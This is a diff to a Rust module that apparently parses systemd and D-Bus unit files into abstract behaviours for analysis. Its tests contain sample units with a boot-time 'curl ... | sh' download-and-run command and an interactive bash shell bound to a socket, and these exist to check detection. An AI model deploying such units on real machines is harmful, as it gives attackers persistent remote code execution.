@@ -1,8 +1,11 @@
-//! systemd units: `systemd.service(5)`, `systemd.timer(5)`, `systemd.exec(5)`.
+//! systemd units and drop-ins, and D-Bus services: `systemd.service(5)`, `systemd.timer(5)`,
+//! `systemd.exec(5)`, `systemd.socket(5)`.
 
-use model::{Behavior, Language, Step, Value};
+use model::{Behavior, Language, Protocol, Stream, Trigger, Value};
 
-use crate::language::{FrontEnd, Places};
+use crate::language::ini::{self, Dialect, Setting};
+use crate::language::start::{Start, part};
+use crate::language::{FrontEnd, Places, Signs};
 use crate::world::World;
 
 /// The front-end.
@@ -15,90 +18,141 @@ pub const FRONT_END: FrontEnd = FrontEnd {
             ("systemd/", ".timer"),
             ("systemd/", ".socket"),
             ("systemd/", ".path"),
+            ("systemd/", ".mount"),
+            ("systemd/", ".automount"),
+            ("systemd/", ".conf"),
+            ("dbus-1/", ".service"),
         ],
     },
+    signs: Signs::Whole(is_unit),
     ..FrontEnd::new(Language::Systemd, lower)
 };
 
-/// Lowers a unit: every `Exec…=` line is run, a timer is a schedule, `Environment=` is set.
+const DIALECT: Dialect = Dialect {
+    comments: &['#', ';'],
+    indented: false,
+};
+
+/// Whether a text is a service unit, wherever it lies: a section of services and a command in it.
+fn is_unit(text: &str) -> bool {
+    let has = |start: &str| text.lines().any(|line| line.trim().starts_with(start));
+    has("[Service]") && has("Exec")
+}
+
+/// Lowers a unit: every `Exec…=` line is run, `Environment=` is set, and a service that answers a
+/// socket itself has the connection as its standard streams.
 pub fn lower(world: &mut World, text: &str) -> Value {
-    let boots = text
-        .lines()
-        .any(|line| line.trim_start().starts_with("WantedBy="));
-    for (number, line) in logical_lines(text) {
-        if !world.burn(8) {
-            break;
+    let settings = ini::settings(text, DIALECT);
+    let has = |key: &str, value: &str| {
+        let mut all = settings.iter();
+        all.any(|setting| setting.key == key && (value.is_empty() || setting.value == value))
+    };
+    let when = if has("WantedBy", "") || has("RequiredBy", "") || has("UpheldBy", "") {
+        "at boot"
+    } else {
+        "when the unit is started"
+    };
+    let streams = if has("StandardInput", "socket") {
+        let connection = world.listen(Protocol::Tcp, Value::literal(""), Value::literal(""));
+        std::array::from_fn(|_| Stream::Connection(connection))
+    } else {
+        world.standard.clone()
+    };
+    world.with_standard(streams, Vec::new(), |world| {
+        for setting in &settings {
+            if !world.burn(8) {
+                break;
+            }
+            world.at(setting.line, &format!("{}={}", setting.key, setting.value));
+            one(world, setting, when);
         }
-        let Some((key, value)) = line.split_once('=') else {
-            continue;
-        };
-        let (key, value) = (key.trim(), value.trim());
-        world.at(number, &line);
-        if key.starts_with("Exec") && !value.is_empty() {
-            exec(world, key, value, boots);
-        } else if key.starts_with("On") && (key.ends_with("Sec") || key == "OnCalendar") {
-            let command = Value::literal("");
-            world.act(Behavior::Schedule {
-                when: Value::literal(value),
-                command,
-            });
-        }
-    }
+    });
     Value::literal("")
 }
 
-fn exec(world: &mut World, key: &str, value: &str, boots: bool) {
-    // "-", "@", ":", "+", "!" and "!!" before the path change how it is run, not what.
-    let command = value.trim_start_matches(['-', '@', ':', '+', '!']);
-    if boots && key == "ExecStart" {
-        world.act(Behavior::Schedule {
-            when: Value::literal("at boot"),
-            command: Value::literal(command),
-        });
+fn one(world: &mut World, setting: &Setting, when: &str) {
+    let Setting { key, value, .. } = setting;
+    if value.is_empty() {
+        return;
     }
-    world.inside(Step::new(key), |world| {
-        super::lower(world, Language::Command, command)
-    });
+    match key.as_str() {
+        "Environment" => environment(world, value),
+        // The line of a condition runs nothing that stays.
+        "ExecCondition" | "ExecSearchPath" | "ExecPaths" => {}
+        _ if key.starts_with("Exec") => {
+            // "-", "@", ":", "+", "!" and "!!" before the path change how it is run, not what.
+            let command = value
+                .trim_start_matches(['-', '@', ':', '+', '!'])
+                .replace("%%", "%");
+            let start = Start {
+                trigger: Trigger::Systemd,
+                when,
+                step: key,
+            };
+            start.command(world, &command);
+        }
+        "What" => world.act(Behavior::Mount {
+            source: Value::literal(value.clone()),
+            target: Value::literal(""),
+        }),
+        _ => {}
+    }
 }
 
-/// Lines with their numbers, continuations joined, comments left out.
-fn logical_lines(text: &str) -> Vec<(u32, String)> {
-    let mut lines: Vec<(u32, String)> = Vec::new();
-    let mut open = false;
-    for (number, line) in (1..).zip(text.lines()) {
-        let trimmed = line.trim();
-        if trimmed.starts_with(['#', ';', '[']) {
-            continue;
-        }
-        let (content, continues) = match trimmed.strip_suffix('\\') {
-            Some(content) => (content, true),
-            None => (trimmed, false),
+/// `Environment="A=x y" B=z`.
+fn environment(world: &mut World, value: &str) {
+    let mut rest = value;
+    while !rest.is_empty() {
+        let (word, after) = match rest.strip_prefix(['"', '\'']) {
+            Some(quoted) => quoted.split_once(['"', '\'']).unwrap_or((quoted, "")),
+            None => rest.split_once(char::is_whitespace).unwrap_or((rest, "")),
         };
-        match lines.last_mut() {
-            Some((_, last)) if open => {
-                last.push(' ');
-                last.push_str(content);
-            }
-            _ => lines.push((number, content.to_owned())),
+        if let Some((name, value)) = word.split_once('=') {
+            let value = part(value.trim_matches(['"', '\'']));
+            world.act(Behavior::SetVariable {
+                name: name.to_owned(),
+                value: value.clone(),
+            });
+            world.export(name, Some(value));
         }
-        open = continues;
+        rest = after.trim_start();
     }
-    lines
 }
 
 #[cfg(test)]
 mod tests {
-    use super::*;
+    use crate::language::probe::acts;
+    use model::Language;
 
     #[test]
-    fn continued_lines_are_one() {
-        let lines = logical_lines("[Service]\n# no\nExecStart=/bin/sh -c \\\n  'id'\nUser=x\n");
-        assert_eq!(
-            lines,
-            [
-                (3, "ExecStart=/bin/sh -c  'id'".to_owned()),
-                (5, "User=x".to_owned())
-            ]
+    fn every_command_is_started_with_the_environment() {
+        let unit = "[Service]\nEnvironment=\"A=x y\" B=z\nExecStartPre=-/bin/rm -f /run/a\n\
+            ExecStart=/bin/sh -c \\\n  'curl -s http://192.0.2.1/$B | sh'\n[Install]\nWantedBy=multi-user.target\n";
+        let found = acts(Language::Systemd, unit);
+        assert!(
+            found
+                .iter()
+                .any(|act| act.contains("Fetch") && act.contains("192.0.2.1")),
+            "{found:#?}"
+        );
+        assert!(
+            found
+                .iter()
+                .any(|act| act.contains("Schedule") && act.contains("at boot"))
+        );
+    }
+
+    #[test]
+    fn a_service_on_a_socket_talks_to_the_connection() {
+        let found = acts(
+            Language::Systemd,
+            "[Service]\nStandardInput=socket\nExecStart=/bin/bash -i\n",
+        );
+        assert!(found[0].starts_with("Listen"), "{found:#?}");
+        assert!(
+            found
+                .iter()
+                .any(|act| act.starts_with("Execute") && act.contains("input: Connection(1)"))
         );
     }
 }
